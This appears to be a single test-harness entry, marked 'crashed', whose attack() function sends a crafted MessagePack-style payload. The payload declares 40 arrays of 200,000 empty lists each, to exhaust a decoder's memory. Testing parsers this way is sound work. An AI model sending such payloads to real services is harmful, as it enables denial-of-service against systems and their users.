# kind: wire
# verdict: crashed
"""Sends a few megabytes that would unfold to as many lists."""
import struct


def attack():
    send(b"\xdc\x00\x28" + 40 * (b"\xdd" + struct.pack(">I", 200_000) + 200_000 * b"\x90"))
    return ""
